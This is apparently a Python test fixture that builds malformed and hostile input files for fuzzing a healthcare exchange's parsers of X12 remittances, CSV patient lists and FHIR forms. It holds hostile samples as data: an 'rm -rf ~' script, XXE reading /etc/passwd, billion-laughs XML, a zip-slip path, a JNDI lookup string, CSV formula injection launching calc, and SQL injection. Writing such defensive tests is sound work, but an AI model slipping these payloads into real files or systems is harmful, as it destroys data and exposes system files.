"""More than two hundred named files that were made to harm, or harmed on their way."""

from __future__ import annotations

import gzip
import io
import random
import zipfile
from collections.abc import Iterator

from tests.exchange.answers import a_277, a_999
from tests.exchange.lists import ANNA, BEN, HEADER
from tests.exchange.public_files import gpci_lines, rvu_lines
from tests.exchange.remittances import DENIED, PAID, an_835

SEED = 20261122
_DEEP = 50_000
_XML = b'<?xml version="1.0"?>'
_LAUGHS = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))


def hostile_files() -> dict[str, bytes]:
    """Give every file by its name."""
    return {
        **_of_other_kinds(),
        **_texts(),
        **_json(),
        **_tables(),
        **_x12(),
        **dict(_harmed()),
    }


def _of_other_kinds() -> dict[str, bytes]:
    package = io.BytesIO()
    with zipfile.ZipFile(package, "w") as archive:
        archive.writestr("../../outside.txt", "x")
    return {
        "a PDF": b"%PDF-1.7\n1 0 obj<</JS(app.alert(1))>>",
        "a program of Windows": b"MZ" + bytes(200),
        "a program of Linux": b"\x7fELF" + bytes(200),
        "a picture": b"\x89PNG\r\n\x1a\n" + bytes(200),
        "a database": b"SQLite format 3\0" + bytes(4096),
        "a packed file": gzip.compress(b"0" * 1_000_000),
        "a script": b"#!/bin/sh\nrm -rf ~\n",
        "a web page": b"<html><script>alert(1)</script></html>",
        "rich text": rb"{\rtf1{\object\objdata 0105}}",
        "XML that looks outside": _XML + b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>'
        b"<a>&b;</a>",
        "XML that looks into a network": _XML + b'<!DOCTYPE a SYSTEM "http://192.0.2.1/a.dtd"><a/>',
        "XML that laughs": _XML + b'<!DOCTYPE a [<!ENTITY l0 "ha">' + _LAUGHS + b"]><a>&l9;</a>",
        "XML in a spiral": b"<a>" * _DEEP,
        "a mail": b"From: a@b\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x",
        "an old workbook's head": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        "a symbolic link's words": b"!<symlink>\xff\xfe/\0e\0t\0c\0",
        "a shortcut of Windows": b"L\0\0\0\x01\x14\x02\0" + bytes(100),
    }


def _texts() -> dict[str, bytes]:
    return {
        "nothing": b"",
        "a blank": b" ",
        "line ends": b"\r\n" * 1_000,
        "bare returns": b"\r" * 1_000,
        "zeros": bytes(10_000),
        "ones": b"\xff" * 10_000,
        "only a mark": b"\xef\xbb\xbf",
        "two marks": b"\xef\xbb\xbf\xef\xbb\xbf{}",
        "a mark of two bytes": b"\xff\xfe",
        "a mark of two bytes turned round": b"\xfe\xff",
        "a mark of four bytes": b"\xff\xfe\0\0",
        "half a letter of two bytes": b"\xff\xfea\0b",
        "text of two bytes": "MRN,Name\r\n1,x".encode("utf-16"),
        "text of four bytes": "MRN,Name\r\n1,x".encode("utf-32"),
        "text without its mark": "MRN,Name".encode("utf-16-le"),
        "a longer way to write a slash": b"\xc0\xaf\xe0\x80\xaf",
        "half a pair": b"\xed\xa0\x80\xed\xa0\x80",
        "beyond all letters": b"\xf4\x90\x80\x80\xf8\x88\x80\x80\x80",
        "letters of the mainframe": "ISA*00".encode("cp037"),
        "turned writing": "\u202eABC\u202c,\u2066x\u2069".encode(),
        "not to be seen": "\u200b\ufeff\u2060".encode() * 500,
        "marks upon marks": ("a" + "\u0301" * 5_000).encode(),
        "one long line": b"x" * 1_000_000,
        "a long word of quotes": b'"' * 100_001,
        "steers a terminal": b"\x1b[2J\x1b]0;owned\x07\x1b[8m",
        "rings": b"\x07" * 500,
        "format signs": b"%s%n%x{0}{0.__class__}${jndi:ldap://x}",
        "a path": b"../../../../etc/passwd\0.csv",
        "words of SQL": b"Robert'); DROP TABLE patient;--",
        "reserved names": b"CON,PRN,AUX,NUL,COM1",
        "numbers of other scripts": "٣,३,Ⅷ,²".encode(),
    }


def _json() -> dict[str, bytes]:
    numbers = ("NaN", "Infinity", "-Infinity", "1e999", "-1e999", "9" * 5_000, "0x10", "01", "1_0",
               "1.", ".5", "--1", "1e-9999")  # fmt: skip
    shapes = ("{", "[", "}", "]", "[]", "{}", "[[]]", "null", "true", '"x"', "[1,2", '{"a"',
              '{"a":', '{"a":1,}', "{,}", "[,]", '{"a":1}{"b":2}', '{"a":1,"a":2}', "{'a':1}",
              "{a:1}", "/*x*/{}", '{"__proto__":{}}', '{"resourceType":"Questionnaire"}',
              '{"resourceType":"Questionnaire","item":{}}', '{"resourceType":7}',
              '{"resourceType":"Questionnaire","item":[null,1,"x",[],{"item":[{"item":7}]}]}',
              '{"item":[{"linkId":1,"type":[],"answerOption":[{"valueCoding":{"code":{}}}]}]}',
              '{"id":"../../x","title":{},"items":-1,"scales":[[]]}')  # fmt: skip
    return {
        **{f"the number {text[:12]}": f'{{"item":[{{"x":{text}}}]}}'.encode() for text in numbers},
        **{f"the shape {text[:60]}": text.encode() for text in shapes},
        "lists in lists": b"[" * _DEEP,
        "objects in objects": b'{"a":' * _DEEP,
        "lists that close": b"[" * _DEEP + b"]" * _DEEP,
        "half a pair in JSON": rb'{"a":"\ud800","\udfff":1}',
        "a zero in JSON": b'{"a":"\\u0000"}',
        "a key of a megabyte": b'{"' + b"k" * 1_000_000 + b'":1}',
        "a hundred thousand keys": b"{" + b",".join(b'"%d":1' % n for n in range(100_000)) + b"}",
        "a lot of items": b'{"resourceType":"Questionnaire","item":['
        + b",".join([b'{"linkId":"a","type":"choice","text":"x"}'] * 5_000) + b"]}",
        "a form that holds itself": b'{"resourceType":"Questionnaire","item":[' * 300,
    }  # fmt: skip


def _tables() -> dict[str, bytes]:
    return {
        "only a header": f"{HEADER}\r\n".encode(),
        "a header twice": f"{HEADER}\r\n{HEADER}\r\n{ANNA}\r\n".encode(),
        "a thousand columns": (
            ",".join(f"c{n}" for n in range(1_000)) + "\n" + "x," * 999
        ).encode(),
        "thirty thousand rows": f"{HEADER}\n".encode() + f"{ANNA}\n".encode() * 30_000,
        "a cell too long": f"{HEADER}\n1,{'x' * 200_000},A,1/1/1970\n".encode(),
        "a quote that never ends": f'{HEADER}\n1,"{ANNA}\n{BEN}\n'.encode(),
        "quotes in quotes": f'{HEADER}\n1,""""""",A\n'.encode(),
        "formulas": f"{HEADER}\n=cmd|'/C calc'!A0,+1,@x,-1\n".encode(),
        "commas": b"," * 100_000,
        "semicolons": b";" * 100_000,
        "tabs": b"\t" * 100_000,
        "bars": b"|" * 100_000,
        "all separators": b",;\t|" * 5_000,
        "a thousand empty columns": f"{HEADER}{',' * 1_000}\n{ANNA}\n".encode(),
        "zeros between": f"{HEADER}\n{ANNA}\n".encode().replace(b",", b"\0,"),
        "lines of zeros": f"{HEADER}\n\0\0\0\n{ANNA}\n".encode(),
        "days that cannot be": f"{HEADER}\n1,A,B,99/99/9999\n2,A,B,00/00/0000\n".encode(),
        "other ends of lines": f"{HEADER}\u2028{ANNA}\x0b{BEN}\x0c{ANNA}\x85{BEN}".encode(),
    }


def _x12() -> dict[str, bytes]:
    good = an_835(PAID)
    isa = good[:106]
    return {
        "half an envelope": isa[:50],
        "an envelope alone": isa,
        "an envelope too short": isa.replace(b"00", b"0", 1) + good[106:],
        "no end": good[: good.index(b"SE*")],
        "ends without beginnings": b"SE*1*1~GE*1*1~IEA*1*1~",
        "two envelopes": good + good,
        "another kind": good.replace(b"835", b"837"),
        "another version": good.replace(b"005010", b"009999"),
        "letters as separators": good.replace(b"*", b"A"),
        "one separator for all": good.replace(b"~", b"*"),
        "amounts without measure": good.replace(b"113.65", b"9" * 400),
        "amounts that are none": good.replace(b"113.65", b"NaN"),
        "amounts below nothing": good.replace(b"113.65", b"-113.65"),
        "amounts of three cents": good.replace(b"113.65", b"113.655"),
        "amounts with commas": good.replace(b"113.65", b"1,13.65"),
        "counts that lie": good.replace(b"SE*", b"SE*9999999"),
        "ten thousand claims": an_835(*[DENIED] * 3_000),
        "a segment without end": good.replace(b"~", b"", 30),
        "elements without end": isa + b"GS" + b"*x" * 100_000 + b"~",
        "segments of nothing": isa + b"~" * 100_000,
        "adjustments without end": good.replace(b"CAS*CO", b"CAS*CO" + b"*45*1*1" * 500 + b"*", 1),
        "a day that cannot be": good.replace(b"20261130", b"20269999"),
    }


def _harmed() -> Iterator[tuple[str, bytes]]:
    """Cut and turn over good files at places that chance, always the same, has chosen."""
    chance = random.Random(SEED)
    for name, content in good_files().items():
        for _ in range(8):
            cut = chance.randrange(1, len(content))
            yield f"{name} cut at {cut}", content[:cut]
            harmed = bytearray(content)
            for _ in range(chance.randint(1, 20)):
                harmed[chance.randrange(len(harmed))] ^= 1 << chance.randrange(8)
            yield f"{name} turned over, {cut}", bytes(harmed)


def good_files() -> dict[str, bytes]:
    return {
        "a remittance": an_835(PAID, DENIED, paid="113.65"),
        "an acknowledgment": a_999("1", "A"),
        "an answer to claims": a_277("COCM-000123-202611", "A1", "WQ"),
        "a list": f"{HEADER}\r\n{ANNA}\r\n{BEN}\r\n".encode(),
        "a table of values": "\r\n".join(rvu_lines()).encode(),
        "a table of places": "\r\n".join(gpci_lines()).encode(),
        "a form": b'{"resourceType":"Questionnaire","title":"A","item":[{"linkId":"1","text":"Q",'
        b'"type":"choice","answerOption":[{"valueCoding":{"code":"0","display":"No"}}]}]}',
    }
